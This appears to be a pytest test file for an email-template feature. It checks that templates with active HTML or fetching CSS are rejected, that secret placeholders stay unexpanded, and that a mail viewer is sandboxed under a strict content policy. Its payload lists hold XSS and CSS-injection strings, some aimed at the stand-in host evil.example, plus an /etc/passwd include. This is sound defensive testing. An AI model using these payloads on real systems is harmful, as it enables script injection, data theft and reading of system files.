"""Mails: what somebody may write into one, and how one is shown."""

from collections.abc import Callable
from email.message import EmailMessage
from pathlib import Path

import pytest
from pytest_django import Settings

from dangol.integrations.mail_catcher.catcher import keep
from dangol.messaging.operations import UnableToSaveTemplate, create_template, render_draft
from dangol.messaging.writing.mjml import HTML
from dangol.workspaces.models import Member
from tests.conftest import MemberClient
from tests.factories import NOW
from tests.people import Cast

RUNNING = (
    "<script>alert(1)</script>", "<SCRIPT src=//evil.example></SCRIPT>", "<svg onload=alert(1)></svg>",
    "<iframe src=x>", "<object data=x></object>", "<embed src=x>", "<form action=//evil.example><input></form>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example>", "<math><mi></mi></math>",
    "<b onclick=alert(1)>x</b>", "<a href='javascript:alert(1)'>x</a>", "<a href=' JaVaScRiPt:alert(1)'>x</a>",
    "<img src='data:text/html,x'>", "<a href='vbscript:x'>x</a>", "<{{ 'script' }}>alert(1)</{{ 'script' }}>",
    "<{% if true %}script{% endif %}>", "<style>b{}</style>", "<video src=x></video>",
    "<mj-include path='/etc/passwd'/>",
)  # fmt: skip
FETCHING = (
    "@import url(//evil.example/a.css);", "b{background:url(//evil.example/a.png)}", "b{width:expression(alert(1))}",
    "b{behavior:url(x.htc)}", "b{-moz-binding:url(x)}", "@\\69mport '//evil.example'", "b{background:URL ( 'x' )}",
)  # fmt: skip


def mail(text: str = "", *, style: str = "") -> str:
    head = f"<mj-head><mj-style>{style}</mj-style></mj-head>" if style else ""
    body = f"<mj-section><mj-column><mj-text>{text}</mj-text></mj-column></mj-section>"
    return f"<mjml>{head}<mj-body>{body}</mj-body></mjml>"


def save(cast: Cast, body: str) -> None:
    create_template(member=cast.admin, name="소식", purpose="service", subject="소식", body=body, now=NOW)


@pytest.mark.shows("1.3.1")
@pytest.mark.parametrize("text", RUNNING)
def test_nothing_that_runs_gets_into_a_mail(text: str, inside: Cast) -> None:
    """Neither when it is saved nor when a draft, or what was saved before there was this rule, is shown."""
    with pytest.raises(UnableToSaveTemplate):
        save(inside, mail(text))
    with pytest.raises(UnableToSaveTemplate):
        render_draft(
            workspace_id=inside.workspace.pk, person=None, subject="소식", preheader="", body=mail(text),
            purpose="service",
        )  # fmt: skip


@pytest.mark.shows("1.3.5")
@pytest.mark.parametrize("style", FETCHING)
def test_no_style_runs_or_fetches_anything(style: str, inside: Cast) -> None:
    inline = style.partition("{")[2].rstrip("}") or style
    for body in (mail(style=style), mail(f'<b style="{inline}">x</b>')):
        with pytest.raises(UnableToSaveTemplate):
            save(inside, body)


@pytest.mark.shows("1.3.1")
def test_what_mails_are_made_of_is_taken(inside: Cast) -> None:
    text = "".join(f"<{tag}></{tag}>" for tag in sorted(HTML - {"br", "hr", "img"}))
    addresses = ("https://shop.example.com/?a=1:2", "mailto:a@example.com", "{{ person.city }}")
    links = "".join(f"<a href='{address}'>x</a>" for address in addresses)
    save(inside, mail(text + links + "<br><img src='https://shop.example.com/a.png' alt=''>", style="b{color:#333}"))


@pytest.mark.shows("AC-13")
def test_no_text_of_a_template_becomes_a_secret(inside: Cast, settings: Settings) -> None:
    text = "%db_password% ${DANGOL_SECRET_KEY} %(SECRET_KEY)s {settings.SECRET_KEY} {{ settings.SECRET_KEY }}"
    shown = render_draft(
        workspace_id=inside.workspace.pk, person=None, subject=text, preheader=text, body=mail(text), purpose="service"
    )
    for part in (shown.subject, shown.html, shown.text):
        assert "${DANGOL_SECRET_KEY}" in part
        assert settings.SECRET_KEY not in part


@pytest.mark.shows("AC-15")
def test_a_mail_is_shown_where_nothing_of_it_can_run(
    cast: Cast, client_of: Callable[[Member], MemberClient], settings: Settings, tmp_path: Path
) -> None:
    """The one place that shows mails as they came: its frame has an origin of its own, and runs and fetches nothing."""
    settings.MAIL_CATCHER_DIR = str(tmp_path)
    hostile = EmailMessage()
    hostile["From"], hostile["To"], hostile["Subject"] = "a@example.com", "b@example.com", "<script>x</script>"
    hostile.set_content("plain")
    hostile.add_alternative("".join(RUNNING[:-3]), subtype="html")
    name = keep(tmp_path, hostile.as_bytes())
    client = client_of(cast.jieun)

    page, body = client.get(f"/mail/{name}/"), client.get(f"/mail/{name}/body")

    assert "<script>x" not in page.text
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in page.text
    policy = body["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'")
    assert "sandbox allow-popups allow-popups-to-escape-sandbox" in policy
    assert {"form-action 'none'", "base-uri 'none'"} <= {part.strip() for part in policy.split(";")}
    assert (body["Content-Type"], body["X-Content-Type-Options"]) == ("text/html; charset=utf-8", "nosniff")
